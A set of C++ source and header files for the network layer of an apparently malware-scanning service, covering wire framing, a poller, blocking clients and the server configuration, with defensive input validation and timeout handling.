  FrameHeader header;
  header.version = head[kOffVersion];
  if (header.version != kProtocolVersion) {
    return poison(util::Status::invalid_argument(
        "unsupported protocol version " + std::to_string(header.version) +
        " (server speaks " + std::to_string(kProtocolVersion) + ")"));
  }
  const std::uint8_t raw_type = head[kOffType];
  if (!is_known_frame_type(raw_type)) {
    return poison(util::Status::invalid_argument(
        "unknown frame type " + std::to_string(raw_type)));
  }
  header.type = static_cast<FrameType>(raw_type);
  header.flags = util::load_le16(head, kOffFlags);
  if (header.flags != 0) {
    return poison(util::Status::invalid_argument(
        "nonzero frame flags are reserved in protocol v2"));
  }
  header.tenant = util::load_le32(head, kOffTenant);
  header.request_id = util::load_le64(head, kOffRequestId);
  header.payload_len = util::load_le32(head, kOffPayloadLen);
  if (header.payload_len > kAbsoluteMaxFramePayloadBytes) {
    return poison(util::Status::invalid_argument(
        "declared payload length " + std::to_string(header.payload_len) +
        " exceeds the architectural frame ceiling"));
  }
  if (header.payload_len > limits_.max_payload_bytes) {
    return poison(util::Status::payload_too_large(
        "frame payload of " + std::to_string(header.payload_len) +
        " bytes exceeds the " + std::to_string(limits_.max_payload_bytes) +
        "-byte limit"));
  }

  const std::size_t frame_bytes = kFrameHeaderBytes + header.payload_len;
  if (available < frame_bytes) return std::optional<FrameView>();

  pending_frame_ = frame_bytes;
  return std::optional<FrameView>(FrameView{
      .header = header,
      .payload = util::ByteView(
          buffer_.data() + read_pos_ + kFrameHeaderBytes,
          header.payload_len)});
}

void FrameDecoder::release() noexcept {
  read_pos_ += pending_frame_;
  pending_frame_ = 0;
}

util::Status FrameDecoder::poison(util::Status status) {
  error_ = std::move(status);
  return error_;
}

}  // namespace mel::net
