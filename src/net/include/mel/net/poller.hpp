#pragma once
// Readiness notification for the server's shard loops: a thin seam over
// epoll (Linux) and poll() (everywhere else) so the event loop is
// portable without an #ifdef forest in server.cpp.
//
// The interface is level-triggered on both backends — a ready fd stays
// ready until drained — so shard code can treat "kReadable" as "read()
// will not block right now" regardless of backend. Each Poller belongs
// to exactly one thread; there is no cross-thread wakeup here (shards
// use a self-pipe registered like any other fd).

#include <chrono>
#include <cstdint>
#include <vector>

#include "mel/util/status.hpp"

namespace mel::net {

enum class PollerBackend : std::uint8_t {
  kAuto = 0,  ///< epoll on Linux, poll() elsewhere.
  kEpoll,     ///< Linux only; create() fails elsewhere.
  kPoll,      ///< Portable poll(2) backend.
};

[[nodiscard]] const char* poller_backend_name(PollerBackend backend) noexcept;

struct PollerEvent {
  int fd = -1;
  bool readable = false;
  bool writable = false;
  /// Error/hangup on the fd (EPOLLERR/EPOLLHUP/POLLNVAL); the owner
  /// should close the connection.
  bool error = false;
};

class Poller {
 public:
  /// A functional poll(2)-backend instance with nothing registered —
  /// cheap member-default; prefer create() to pick the best backend.
  Poller() = default;

  [[nodiscard]] static util::StatusOr<Poller> create(
      PollerBackend backend = PollerBackend::kAuto);

  Poller(Poller&& other) noexcept;
  Poller& operator=(Poller&& other) noexcept;
  Poller(const Poller&) = delete;
  Poller& operator=(const Poller&) = delete;
  ~Poller();

  /// Registers fd for readability and (optionally) writability
  /// notifications. Registering an fd twice is kInvalidArgument.
  [[nodiscard]] util::Status add(int fd, bool want_write = false);
  /// Changes the write-interest of an already-registered fd.
  [[nodiscard]] util::Status set_write_interest(int fd, bool want_write);
  [[nodiscard]] util::Status remove(int fd);

  /// Blocks up to `timeout` for readiness; appends events to `out`
  /// (which is cleared first). Zero events on timeout is not an error.
  /// A negative timeout blocks indefinitely.
  [[nodiscard]] util::Status wait(std::vector<PollerEvent>& out,
                                  std::chrono::milliseconds timeout);

  [[nodiscard]] PollerBackend backend() const noexcept { return backend_; }
  [[nodiscard]] std::size_t watched_fds() const noexcept;

 private:
  PollerBackend backend_ = PollerBackend::kPoll;
  int epoll_fd_ = -1;  ///< Owned epoll instance; -1 on the poll backend.
  /// poll backend: the registration table rebuilt into pollfd form per
  /// wait(); epoll backend: mirror used for watched_fds()/dup checks.
  struct Registration {
    int fd;
    bool want_write;
  };
  std::vector<Registration> registrations_;
};

}  // namespace mel::net
