#pragma once
// Readiness notification for the server's shard loops: a thin seam over
// epoll (Linux) and poll() (everywhere else) so the event loop is
// portable without an #ifdef forest in server.cpp.
//
// The interface is level-triggered on both backends — a ready fd stays
// ready until drained — so shard code can treat "kReadable" as "read()
// will not block right now" regardless of backend. Each Poller belongs
// to exactly one thread; there is no cross-thread wakeup here (shards
// use a self-pipe registered like any other fd).

#include <chrono>
#include <cstdint>
#include <vector>

#include "mel/util/status.hpp"

namespace mel::net {

enum class PollerBackend : std::uint8_t {
  kAuto = 0,  ///< epoll on Linux, poll() elsewhere.
  kEpoll,     ///< Linux only; create() fails elsewhere.
  kPoll,      ///< Portable poll(2) backend.
};

[[nodiscard]] const char* poller_backend_name(PollerBackend backend) noexcept;

struct PollerEvent {
  int fd = -1;
  bool readable = false;
  bool writable = false;
  /// Error/hangup on the fd (EPOLLERR/EPOLLHUP/POLLNVAL); the owner
  /// should close the connection.
  bool error = false;
  /// The fd's armed deadline (set_deadline) has passed. A wakeup hint,
  /// not a verdict: readiness processed in the same batch may have
  /// already renewed the connection's real deadline, so the owner must
  /// re-check its own deadline state before acting.
  bool timer = false;
};

class Poller {
 public:
  /// A functional poll(2)-backend instance with nothing registered —
  /// cheap member-default; prefer create() to pick the best backend.
  Poller() = default;

  [[nodiscard]] static util::StatusOr<Poller> create(
      PollerBackend backend = PollerBackend::kAuto);

  Poller(Poller&& other) noexcept;
  Poller& operator=(Poller&& other) noexcept;
  Poller(const Poller&) = delete;
  Poller& operator=(const Poller&) = delete;
  ~Poller();

  /// Registers fd for readability and (optionally) writability
  /// notifications. Registering an fd twice is kInvalidArgument.
  [[nodiscard]] util::Status add(int fd, bool want_write = false);
  /// Changes the write-interest of an already-registered fd.
  [[nodiscard]] util::Status set_write_interest(int fd, bool want_write);
  [[nodiscard]] util::Status remove(int fd);

  /// Arms (or replaces) a one-shot deadline for a registered fd on the
  /// fault::now() time axis (injected skew trips deadlines). wait()
  /// clamps its sleep so it wakes by the earliest armed deadline and
  /// emits a timer event for every fd whose deadline has passed; a
  /// fired deadline is cleared and must be re-armed to fire again.
  [[nodiscard]] util::Status set_deadline(
      int fd, std::chrono::steady_clock::time_point deadline);
  [[nodiscard]] util::Status clear_deadline(int fd);
  /// The earliest armed deadline, or time_point::max() when none is.
  [[nodiscard]] std::chrono::steady_clock::time_point next_deadline()
      const noexcept;

  /// Blocks up to `timeout` for readiness; appends events to `out`
  /// (which is cleared first). Zero events on timeout is not an error.
  /// A negative timeout blocks indefinitely — until readiness or the
  /// earliest armed deadline. Timer expirations are merged into the
  /// readiness event for the same fd when both happen in one wait.
  [[nodiscard]] util::Status wait(std::vector<PollerEvent>& out,
                                  std::chrono::milliseconds timeout);

  [[nodiscard]] PollerBackend backend() const noexcept { return backend_; }
  [[nodiscard]] std::size_t watched_fds() const noexcept;

 private:
  PollerBackend backend_ = PollerBackend::kPoll;
  int epoll_fd_ = -1;  ///< Owned epoll instance; -1 on the poll backend.
  /// poll backend: the registration table rebuilt into pollfd form per
  /// wait(); epoll backend: mirror used for watched_fds()/dup checks.
  struct Registration {
    int fd;
    bool want_write;
    /// One-shot deadline; time_point::max() means "none armed".
    std::chrono::steady_clock::time_point deadline =
        std::chrono::steady_clock::time_point::max();
  };
  /// Appends/merges a timer event for every expired deadline and
  /// clears those deadlines (one-shot semantics).
  void emit_timer_events(std::vector<PollerEvent>& out);
  std::vector<Registration> registrations_;
};

}  // namespace mel::net
