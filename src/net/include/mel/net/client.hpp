#pragma once
// Blocking client for the MEL wire protocol: one TCP connection, one
// request in flight at a time. This is the reference peer the loopback
// tests and the throughput bench drive — pipelined/async clients can be
// built on frame.hpp directly (the protocol supports them via
// request_id echo), but the blocking form keeps correctness tests
// legible.
//
// Error surface: network-level failures are kUnavailable / kInternal;
// protocol violations from the server are kInvalidArgument; an error
// FRAME from the server is returned as the status it carries (code,
// message, retry-after hint) — exactly what the in-process
// ScanService::scan would have returned, so callers migrate by swapping
// the call site only (docs/serving.md, migration guide).
//
// Not thread-safe: one ScanClient per thread.

#include <cstdint>
#include <memory>
#include <string>

#include "mel/net/frame.hpp"
#include "mel/service/tenant.hpp"

namespace mel::net {

struct ClientConfig {
  std::string host = "127.0.0.1";
  std::uint16_t port = 0;
  /// Tenant id stamped on every request this client sends.
  service::TenantId tenant = service::kDefaultTenant;
  /// Limits applied to server responses (a hostile/buggy server must
  /// not drive unbounded client buffering either).
  FrameLimits frame;
};

class ScanClient {
 public:
  /// Connects (blocking). kUnavailable when the server is not there.
  [[nodiscard]] static util::StatusOr<ScanClient> connect(
      ClientConfig config);

  ScanClient(ScanClient&& other) noexcept;
  ScanClient& operator=(ScanClient&& other) noexcept;
  ScanClient(const ScanClient&) = delete;
  ScanClient& operator=(const ScanClient&) = delete;
  ~ScanClient();

  /// Scans `payload` on the server under this client's tenant;
  /// blocks for the verdict. A server-side refusal (shed, draining,
  /// oversize, unknown tenant, ...) is returned as its typed Status.
  [[nodiscard]] util::StatusOr<WireVerdict> scan(util::ByteView payload);

  /// Round-trip liveness probe.
  [[nodiscard]] util::Status ping();

  [[nodiscard]] const ClientConfig& config() const noexcept {
    return config_;
  }
  [[nodiscard]] bool connected() const noexcept { return fd_ >= 0; }
  void close() noexcept;

 private:
  ScanClient() = default;

  /// Sends `frame` and blocks for the matching response (request_id
  /// echo); returns the raw response frame's decoded pieces.
  [[nodiscard]] util::StatusOr<WireVerdict> round_trip_scan(
      const util::ByteBuffer& frame, std::uint64_t request_id);
  [[nodiscard]] util::Status send_all(const util::ByteBuffer& bytes);
  /// Reads until one full frame is decodable; the FrameView's payload
  /// is copied out by the caller before the next read.
  [[nodiscard]] util::StatusOr<FrameView> read_frame();

  ClientConfig config_;
  int fd_ = -1;
  std::uint64_t next_request_id_ = 1;
  std::unique_ptr<FrameDecoder> decoder_;
};

}  // namespace mel::net
