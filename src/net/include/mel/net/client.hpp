#pragma once
// Self-healing client for the MEL wire protocol: one TCP connection,
// one request in flight at a time, but the connection is a cattle, not
// a pet — every call carries a wall-clock deadline, every transport
// failure closes the socket, and the next attempt reconnects with a
// fresh FrameDecoder (so a poisoned response stream can never stick
// past the connection that poisoned it). Reconnects back off with the
// service tier's decorrelated-jitter retry policy and honor the
// retry-after hints the v2 error frames carry; when the current
// endpoint is unreachable the client fails over through the configured
// endpoint list and sticks with whichever worked.
//
// Error surface: network-level failures are kUnavailable / kInternal;
// protocol violations from the server are kInvalidArgument; a blown
// request deadline is kDeadlineExceeded (never an indefinite block); an
// error FRAME from the server is returned as the status it carries
// (code, message, retry-after hint) — exactly what the in-process
// ScanService::scan would have returned, so callers migrate by
// swapping the call site only (docs/serving.md, migration guide).
//
// Retries default OFF (RetryOptions::max_attempts = 1): a refusal
// surfaces to the caller immediately, matching the in-process service.
// Opt in by raising max_attempts; only retryable statuses
// (kUnavailable, kResourceExhausted — see util::is_retryable) are
// retried, within the request deadline.
//
// All deadlines run on the fault::now() axis and all socket I/O routes
// through the util::fault socket wrappers, so chaos tests drive this
// client through the same fault matrix as the server.
//
// Not thread-safe: one ScanClient per thread.

#include <chrono>
#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "mel/net/frame.hpp"
#include "mel/service/resilience.hpp"
#include "mel/service/tenant.hpp"

namespace mel::net {

struct ClientEndpoint {
  std::string host = "127.0.0.1";
  std::uint16_t port = 0;
};

struct ClientConfig {
  std::string host = "127.0.0.1";
  std::uint16_t port = 0;
  /// Failover endpoints tried (in order, wrapping) when host:port is
  /// unreachable or the connection dies. The client pins whichever
  /// endpoint last connected.
  std::vector<ClientEndpoint> failover;
  /// Tenant id stamped on every request this client sends.
  service::TenantId tenant = service::kDefaultTenant;
  /// Limits applied to server responses (a hostile/buggy server must
  /// not drive unbounded client buffering either).
  FrameLimits frame;
  /// Wall budget for one scan()/ping() call — connect, retries,
  /// backoff, send, and receive all included — on the fault::now()
  /// axis. Exhaustion returns typed kDeadlineExceeded. 0 disables
  /// (blocks indefinitely, the pre-hardening behavior).
  std::chrono::milliseconds request_deadline{5'000};
  /// Budget for one TCP connect attempt, per endpoint.
  std::chrono::milliseconds connect_deadline{1'000};
  /// Backoff policy for retryable failures (reconnects and re-sends).
  /// The default max_attempts = 1 disables retries.
  service::RetryOptions retry;
};

/// Self-healing counters (one thread, plain integers).
struct ClientStats {
  std::uint64_t scans_ok = 0;
  std::uint64_t retries = 0;     ///< Attempts after the first, any call.
  std::uint64_t reconnects = 0;  ///< Successful re-establishments.
  std::uint64_t failovers = 0;   ///< Endpoint switches on reconnect.
  std::uint64_t deadline_exceeded = 0;  ///< Calls ended by the deadline.
  std::uint64_t poisoned_streams = 0;   ///< Response decoders poisoned.
};

class ScanClient {
 public:
  /// Connects (bounded by connect_deadline per endpoint, trying the
  /// failover list). kUnavailable when no endpoint is reachable.
  [[nodiscard]] static util::StatusOr<ScanClient> connect(
      ClientConfig config);

  ScanClient(ScanClient&& other) noexcept;
  ScanClient& operator=(ScanClient&& other) noexcept;
  ScanClient(const ScanClient&) = delete;
  ScanClient& operator=(const ScanClient&) = delete;
  ~ScanClient();

  /// Scans `payload` on the server under this client's tenant; blocks
  /// for the verdict, at most request_deadline. A server-side refusal
  /// (shed, draining, oversize, unknown tenant, ...) is returned as its
  /// typed Status; with retries enabled, retryable refusals and
  /// transport failures are retried (reconnecting as needed) under the
  /// same deadline.
  [[nodiscard]] util::StatusOr<WireVerdict> scan(util::ByteView payload);

  /// Round-trip liveness probe, bounded by request_deadline.
  [[nodiscard]] util::Status ping();

  [[nodiscard]] const ClientConfig& config() const noexcept {
    return config_;
  }
  [[nodiscard]] bool connected() const noexcept { return fd_ >= 0; }
  [[nodiscard]] const ClientStats& stats() const noexcept { return stats_; }
  /// The endpoint the client is currently pinned to.
  [[nodiscard]] const ClientEndpoint& endpoint() const noexcept {
    return endpoints_[endpoint_];
  }
  void close() noexcept;

 private:
  ScanClient() = default;
  using TimePoint = std::chrono::steady_clock::time_point;

  /// fault::now() + request_deadline (TimePoint::max() when disabled).
  [[nodiscard]] TimePoint call_deadline() const noexcept;
  /// Reconnects if the socket is down: tries each endpoint once
  /// starting from the pinned one, fresh FrameDecoder on success.
  [[nodiscard]] util::Status ensure_connected(TimePoint deadline);
  [[nodiscard]] util::Status connect_endpoint(const ClientEndpoint& ep,
                                              TimePoint deadline);
  /// poll()s the socket for `events` until ready or `deadline`.
  [[nodiscard]] util::Status await(short events, TimePoint deadline,
                                   const char* what);
  [[nodiscard]] util::Status send_all(const util::ByteBuffer& bytes,
                                      TimePoint deadline);
  /// Reads until one full frame is decodable; the FrameView's payload
  /// is copied out by the caller before the next read.
  [[nodiscard]] util::StatusOr<FrameView> read_frame(TimePoint deadline);
  /// Sends `frame` and blocks for the matching response (request_id
  /// echo); one attempt, no retries at this layer.
  [[nodiscard]] util::StatusOr<WireVerdict> round_trip_scan(
      const util::ByteBuffer& frame, std::uint64_t request_id,
      TimePoint deadline);

  ClientConfig config_;
  /// [0] = config host:port, then the failover list.
  std::vector<ClientEndpoint> endpoints_;
  std::size_t endpoint_ = 0;
  int fd_ = -1;
  bool ever_connected_ = false;
  std::uint64_t next_request_id_ = 1;
  std::unique_ptr<FrameDecoder> decoder_;
  ClientStats stats_;
};

}  // namespace mel::net
