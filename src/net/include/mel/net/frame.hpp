#pragma once
// Wire framing for the MEL scan protocol (v2).
//
// Every message on a connection is one length-prefixed binary frame,
// little-endian throughout (doubles travel as IEEE-754 bit patterns, so
// a verdict crosses the wire bit-losslessly):
//
//   offset size field
//   0      4    magic "MELW"
//   4      1    protocol version (kProtocolVersion = 2)
//   5      1    frame type (FrameType)
//   6      2    flags (u16; no flags are defined in v2 — nonzero is a
//               protocol error, reserved as the forward-compat escape
//               hatch exactly like the snapshot format's section flags)
//   8      4    tenant id (u32; service::TenantId)
//   12     8    request id (u64; chosen by the client, echoed verbatim
//               in the matching response so clients may pipeline)
//   20     4    payload length (u32)
//   24     n    payload
//
// Client -> server frame types: kScanRequest (payload = the bytes to
// scan), kPing (empty payload). Server -> client: kVerdict (fixed
// 40-byte VerdictBody), kError (ErrorBody: typed status code +
// retry-after hint + short message), kPong.
//
// Error stance (mirrors the snapshot decoder): FrameDecoder accepts
// arbitrary bytes and never crashes or over-reads — every malformed
// input (bad magic, version skew, nonzero flags, oversize or breach of
// the configured payload cap) is a typed util::Status. A decoder that
// returned an error is poisoned: the stream cannot be resynchronized
// (length framing with no sentinel), so the connection must be closed.
// The frame_parse fuzz harness holds the decoder to all of this.
//
// Zero-copy contract: the server read()s straight into the decoder's
// buffer (write_area/commit) and FrameView::payload aliases that buffer
// — the bytes flow from the socket into ScanRequest::payload with no
// copy. A FrameView is valid until the next release()/feed()/
// write_area() call on its decoder.

#include <array>
#include <cstdint>
#include <optional>
#include <span>
#include <string>

#include "mel/service/tenant.hpp"
#include "mel/util/bytes.hpp"
#include "mel/util/status.hpp"

namespace mel::net {

inline constexpr std::array<std::uint8_t, 4> kFrameMagic = {'M', 'E', 'L',
                                                            'W'};
/// v2: the first wire revision (v1 was the in-process API; see
/// docs/serving.md for the migration guide).
inline constexpr std::uint8_t kProtocolVersion = 2;
inline constexpr std::size_t kFrameHeaderBytes = 24;

/// Architectural ceiling on one frame's payload, independent of the
/// configured FrameLimits cap — bounds per-connection memory on any
/// deployment. Larger declared lengths are malformed, not merely big.
inline constexpr std::uint32_t kAbsoluteMaxFramePayloadBytes = 64u << 20;

/// Error-frame messages are advisory; cap them so a hostile peer cannot
/// stuff megabytes into the "message" of its own refusal.
inline constexpr std::size_t kMaxErrorMessageBytes = 512;

enum class FrameType : std::uint8_t {
  kScanRequest = 1,
  kPing = 2,
  kVerdict = 0x81,
  kError = 0x82,
  kPong = 0x83,
};

/// True for the types a client sends (what the server accepts).
[[nodiscard]] constexpr bool is_request_type(FrameType type) noexcept {
  return type == FrameType::kScanRequest || type == FrameType::kPing;
}
/// True for the types a server sends (what the client accepts).
[[nodiscard]] constexpr bool is_response_type(FrameType type) noexcept {
  return type == FrameType::kVerdict || type == FrameType::kError ||
         type == FrameType::kPong;
}
[[nodiscard]] constexpr bool is_known_frame_type(std::uint8_t raw) noexcept {
  const auto type = static_cast<FrameType>(raw);
  return is_request_type(type) || is_response_type(type);
}

struct FrameHeader {
  std::uint8_t version = kProtocolVersion;
  FrameType type = FrameType::kPing;
  std::uint16_t flags = 0;
  service::TenantId tenant = service::kDefaultTenant;
  std::uint64_t request_id = 0;
  std::uint32_t payload_len = 0;
};

/// One decoded frame; payload aliases the decoder's buffer (see the
/// zero-copy contract above).
struct FrameView {
  FrameHeader header;
  util::ByteView payload;
};

struct FrameLimits {
  /// Deployment cap on a frame payload; breaches are kPayloadTooLarge
  /// (the absolute ceiling above yields kInvalidArgument — malformed,
  /// not merely oversized). Must be in [1, kAbsoluteMaxFramePayloadBytes].
  std::uint32_t max_payload_bytes = 1u << 20;

  [[nodiscard]] util::Status validate() const;
};

// --- Encoding -------------------------------------------------------------

/// Renders header + payload into wire bytes. header.payload_len is taken
/// from payload.size() (the field in `header` is ignored).
[[nodiscard]] util::ByteBuffer encode_frame(const FrameHeader& header,
                                            util::ByteView payload);

/// Scan request frame (client -> server).
[[nodiscard]] util::ByteBuffer encode_scan_request(service::TenantId tenant,
                                                   std::uint64_t request_id,
                                                   util::ByteView payload);

/// Ping frame (client -> server).
[[nodiscard]] util::ByteBuffer encode_ping(std::uint64_t request_id);

/// The verdict fields that cross the wire — everything a caller needs
/// to act on a verdict, bit-identical to the in-process core::Verdict
/// fields of the same names.
struct WireVerdict {
  bool malicious = false;
  bool degraded = false;
  bool is_text = false;
  bool loop_detected = false;
  std::int64_t mel = 0;
  double threshold = 0.0;
  double alpha = 0.0;
  std::uint64_t scan_id = 0;

  [[nodiscard]] bool operator==(const WireVerdict&) const = default;
};

inline constexpr std::size_t kVerdictBodyBytes = 40;

/// Verdict response frame; echoes (tenant, request_id).
[[nodiscard]] util::ByteBuffer encode_verdict(service::TenantId tenant,
                                              std::uint64_t request_id,
                                              const WireVerdict& verdict);

/// Decoded error frame: the typed status (code + message + retry-after,
/// exactly what the in-process API returns) plus the server's protocol
/// version so a client seeing "unsupported version" can negotiate down.
struct WireError {
  util::Status status;
  std::uint8_t server_version = kProtocolVersion;
};

/// Error response frame; echoes (tenant, request_id). The message is
/// truncated to kMaxErrorMessageBytes.
[[nodiscard]] util::ByteBuffer encode_error(service::TenantId tenant,
                                            std::uint64_t request_id,
                                            const util::Status& status);

/// Pong response frame; echoes request_id.
[[nodiscard]] util::ByteBuffer encode_pong(std::uint64_t request_id);

// --- Body decoding (responses) --------------------------------------------

[[nodiscard]] util::StatusOr<WireVerdict> decode_verdict_body(
    util::ByteView body);
[[nodiscard]] util::StatusOr<WireError> decode_error_body(
    util::ByteView body);

// --- Incremental decoding -------------------------------------------------

/// Reassembles frames from a TCP byte stream, across any read()
/// boundaries. Not thread-safe: one decoder per connection, driven by
/// that connection's shard thread only.
class FrameDecoder {
 public:
  explicit FrameDecoder(FrameLimits limits = {});

  /// Writable tail of the internal buffer for zero-copy read():
  /// guarantees at least `hint` writable bytes (growing/compacting as
  /// needed — which invalidates any outstanding FrameView). Pair every
  /// write_area() with one commit(n), n <= hint, before calling next():
  /// the uncommitted remainder is trimmed and never decoded.
  [[nodiscard]] std::span<std::uint8_t> write_area(std::size_t hint);
  void commit(std::size_t n) noexcept;

  /// Copy-in convenience over write_area/commit (clients, tests, fuzz).
  void feed(util::ByteView bytes);

  /// Extracts the next complete frame. Three outcomes:
  ///   * a FrameView — call release() once done with its payload;
  ///   * nullopt — the buffered bytes end mid-frame; feed more;
  ///   * a typed error — protocol violation; the decoder is poisoned
  ///     (every later next() repeats the error) and the connection must
  ///     be closed. kInvalidArgument for malformed bytes (magic,
  ///     version, flags, unknown type, absolute-ceiling breach),
  ///     kPayloadTooLarge for a well-formed frame over the configured
  ///     cap.
  [[nodiscard]] util::StatusOr<std::optional<FrameView>> next();

  /// Consumes the frame last returned by next(); its FrameView (and
  /// payload view) are invalid from here on. No-op when none pending.
  void release() noexcept;

  /// Committed bytes not yet consumed by release(). An open write_area
  /// does not count until commit().
  [[nodiscard]] std::size_t buffered_bytes() const noexcept {
    return write_base_ - read_pos_;
  }
  [[nodiscard]] const FrameLimits& limits() const noexcept { return limits_; }

 private:
  util::Status poison(util::Status status);

  FrameLimits limits_;
  util::ByteBuffer buffer_;
  std::size_t read_pos_ = 0;      ///< Start of the unconsumed region.
  std::size_t write_base_ = 0;    ///< Committed size under an open write_area.
  std::size_t pending_frame_ = 0; ///< Bytes of the un-released frame.
  util::Status error_;            ///< Sticky once a violation was seen.
};

}  // namespace mel::net
