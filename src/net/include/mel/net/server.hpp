#pragma once
// Shared-nothing network front-end for the scan service.
//
// Topology: one acceptor thread listens on a TCP socket and deals each
// accepted connection onto one of N shard threads (round-robin). Each
// shard owns a PRIVATE copy of the entire scan stack — ScanService (and
// with it a TenantRegistry built from the same TenantConfig vector), an
// exec::MelScratch arena, an optional persist::VerdictCache slice, and
// its admission token buckets — plus its own Poller and connection
// table. After the accept hand-off (a per-shard inbox + wake pipe, the
// only cross-thread touch a connection ever experiences) nothing is
// shared between shards: no lock a shard can take is reachable from
// another shard, so shard count scales without contention.
//
// Because shards cannot share a token bucket, the server divides every
// configured admission rate (service-wide and per-tenant: rate_per_sec,
// burst, max_concurrent) by the shard count — the aggregate limit then
// matches the configured limit, enforced per shard. This is the
// documented approximation of the shared-nothing design: a tenant
// hammering a single connection can use only 1/N of its quota.
//
// Verdict determinism: a scan's verdict is a pure function of (payload,
// tenant calibration), every shard is built from the same config, and
// per-shard caches only ever return verdicts the same shard computed —
// so the verdict for a payload is bit-identical at ANY shard count and
// whichever shard the connection lands on. The loopback test pins this
// at 1 shard vs N shards against direct ScanService::scan calls.
//
// Zero-copy read path: each connection read()s straight into its
// FrameDecoder via write_area/commit, and the decoded frame's payload
// view is handed to ScanService::scan as ScanRequest::payload without
// copying. The scan runs synchronously on the shard thread, inside the
// view's validity window.
//
// Durable state: the server owns one persist::StateManager per
// configured snapshot path — ServerConfig::snapshot_path for the
// default tenant plus every TenantConfig::snapshot_path — restoring at
// start() (restored calibrations are applied to every shard before the
// listener opens) and saving on drain(). Recalibrations fan out to all
// shards through the apply-calibration hook.
//
// Lifecycle mirrors ScanService: start() -> serving; drain() stops the
// acceptor, lets each shard flush pending responses, drains every
// shard's service (health-gated: in-flight verdicts are delivered, new
// work is refused), saves durable state, and joins all threads.
// Destruction drains if the caller did not.
//
// Shard supervision (ServerConfig::supervision, off by default): every
// shard publishes a heartbeat and its current scan fingerprint into a
// super::SupervisionTable; the acceptor loop doubles as the supervisor,
// ticking once per loop_tick on the fault::now() clock. A stalled scan
// (deadline overrun past the grace factor) or a dead shard (missed
// heartbeats / thread exit) is condemned; recovery is crash-only — the
// condemned shard abandons its state and exits, the supervisor joins
// it, re-deals clean connections to healthy shards (dirty ones get a
// best-effort typed kUnavailable + retry-after and are closed),
// rebuilds the shard's private stack from config, and re-applies the
// persisted calibration via StateManager::reapply. Fingerprints that
// wedge shards repeatedly are quarantined (typed kInvalidArgument
// refusal, never re-scanned); sustained pressure engages the brownout
// ladder (full MEL -> reduced budget -> signature/entropy screen, each
// step flagged degraded on the wire) before admission control sheds.
// See docs/resilience.md.

#include <atomic>
#include <cstdint>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <thread>
#include <unordered_map>
#include <vector>

#include "mel/exec/mel.hpp"
#include "mel/net/frame.hpp"
#include "mel/net/poller.hpp"
#include "mel/persist/state_manager.hpp"
#include "mel/service/scan_service.hpp"
#include "mel/super/supervision.hpp"

namespace mel::net {

struct ServerConfig {
  /// The scan stack every shard instantiates privately. Field names are
  /// the service's own — window_size/overlap/budget/admission/tenants —
  /// and validation routes through ServiceConfig::validate (and with it
  /// core::DetectorConfig::validate): one config vocabulary from wire
  /// to detector. Admission rates here are the AGGREGATE limits; the
  /// server divides them across shards (see the header comment).
  service::ServiceConfig service;

  std::string bind_address = "127.0.0.1";
  /// TCP port; 0 binds an ephemeral port, readable via port().
  std::uint16_t port = 0;
  /// Shard (worker thread) count, each with a private scan stack.
  std::size_t shards = 1;
  /// Wire-frame limits applied per connection.
  FrameLimits frame;
  /// Connections over this cap are refused with a kUnavailable error
  /// frame and closed immediately.
  std::size_t max_connections = 1024;
  /// A connection whose pending response bytes exceed this is dropped
  /// (a peer not reading its verdicts is backpressure we must not
  /// absorb as unbounded memory).
  std::size_t max_write_buffer_bytes = std::size_t{4} << 20;

  // --- Connection-lifecycle hardening ------------------------------------
  // All timers run on the fault::now() axis (steady clock + injected
  // skew), enforced from the shard poller's deadline wheel — so chaos
  // tests trip them deterministically with a clock jump, and no shard
  // thread ever blocks on a sick peer. A zero duration disables that
  // check.
  /// A connection that delivers no bytes for this long is closed (with
  /// a best-effort typed kDeadlineExceeded error frame).
  std::chrono::milliseconds idle_timeout{30'000};
  /// A partially-read frame must complete within this budget; a peer
  /// that tears a frame and walks away is refused and closed.
  std::chrono::milliseconds read_deadline{10'000};
  /// Pending response bytes must drain within this budget; a peer that
  /// stops reading its verdicts is shed (closed), never blocks a shard
  /// thread.
  std::chrono::milliseconds write_deadline{10'000};
  /// Slow-loris defense: while a frame is partially read, the peer must
  /// deliver at least slow_loris_min_bytes per interval or be refused
  /// and closed — trickling one byte per second cannot hold a slot.
  std::chrono::milliseconds slow_loris_interval{1'000};
  std::size_t slow_loris_min_bytes = 64;
  /// Per-connection cap on scan responses buffered but not yet flushed
  /// (pipelining depth). Requests over the cap are refused with a typed
  /// kResourceExhausted + retry-after error frame; the connection stays
  /// open and usable.
  std::size_t max_inflight_per_connection = 64;
  /// Shard/acceptor event-loop tick: the upper bound on how late a
  /// lifecycle deadline fires past its poller wakeup. Tests shrink it.
  std::chrono::milliseconds loop_tick{100};
  /// Total verdict-cache capacity, divided across the per-shard caches.
  /// 0 disables caching.
  std::size_t cache_capacity = 0;
  /// Event-loop backend (epoll on Linux under kAuto).
  PollerBackend poller = PollerBackend::kAuto;
  /// Snapshot path for the DEFAULT tenant's StateManager; per-tenant
  /// paths ride in service.tenants[i].snapshot_path. Empty: no
  /// default-tenant durability.
  std::string snapshot_path;
  /// Per-tenant drift loops: when set, EVERY tenant (default included)
  /// gets its own DriftMonitor with this cadence, fed only that
  /// tenant's scanned payloads, wired through the tenant's StateManager
  /// — one tenant's distribution shift recalibrates only that tenant's
  /// detector (fanned out to every shard), bumps only its epoch, and
  /// snapshots only its state. Tenants without a snapshot path get an
  /// ephemeral (non-durable) StateManager to host the loop. Distinct
  /// from service.drift_monitor, which is one service-wide monitor over
  /// all traffic.
  std::optional<persist::DriftMonitorConfig> drift;
  /// Shard supervision (stall watchdog, crash-only recovery, poison
  /// quarantine, brownout ladder). Unset: no supervision — a wedged
  /// shard strands its connections, exactly the pre-supervision
  /// behavior. The supervisor tick rides the acceptor loop at
  /// loop_tick cadence; heartbeat_interval should be >= loop_tick.
  std::optional<super::SupervisorConfig> supervision;

  /// kInvalidConfig on any violation; service/frame checks are routed
  /// through their own validate() so the error vocabulary is shared.
  [[nodiscard]] util::Status validate() const;
};

/// Aggregated server counters (relaxed snapshots of per-shard atomics).
struct ServerStats {
  std::uint64_t connections_accepted = 0;
  std::uint64_t connections_refused = 0;  ///< Over max_connections.
  std::uint64_t connections_dropped = 0;  ///< Protocol/backpressure closes.
  std::uint64_t frames_received = 0;
  std::uint64_t scans_ok = 0;
  std::uint64_t scans_rejected = 0;  ///< Error frames sent for scans.
  /// Connections closed for a lifecycle-deadline violation (idle,
  /// read-deadline, write-deadline, or slow-loris). Also counted in
